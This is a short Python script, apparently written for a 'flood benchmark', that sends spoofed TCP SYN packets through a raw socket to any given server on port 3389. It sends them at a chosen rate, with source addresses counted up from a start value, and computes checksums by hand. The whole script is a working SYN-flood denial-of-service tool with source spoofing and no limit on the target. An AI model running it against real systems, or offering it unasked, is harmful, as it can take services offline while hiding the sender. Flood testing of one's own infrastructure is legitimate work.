# Spoofed SYNs for the flood benchmark: RATE packets a second for SECONDS, each from a new
# source address counted up from FIRST (a.b.c.d), to SERVER:3389, through a raw socket of the
# current network namespace. Nothing answers for these sources: they exist nowhere. Prints
# "sent <n>" at the end.
#
# usage: syn_flood.py SERVER FIRST RATE SECONDS
import ipaddress
import random
import socket
import struct
import sys
import time

server, first = sys.argv[1], int(ipaddress.IPv4Address(sys.argv[2]))
rate, seconds = float(sys.argv[3]), float(sys.argv[4])


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def syn(source, destination):
    port = random.randint(1024, 65535)
    seq = random.getrandbits(32)
    header = struct.pack("!HHIIBBHHH", port, 3389, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = source + destination + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(header))
    header = header[:16] + struct.pack("!H", checksum(pseudo + header)) + header[18:]
    # The kernel fills in the IP checksum, the total length and the id of a raw packet.
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0, source,
                     destination)
    return ip + header


out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
destination = socket.inet_aton(server)
begin = time.monotonic()
sent = 0
while sent < rate * seconds:
    due = begin + sent / rate
    now = time.monotonic()
    if due > now:
        time.sleep(due - now)
    source = struct.pack("!I", first + sent)
    out.sendto(syn(source, destination), (server, 0))
    sent += 1
print("sent %d" % sent, flush=True)
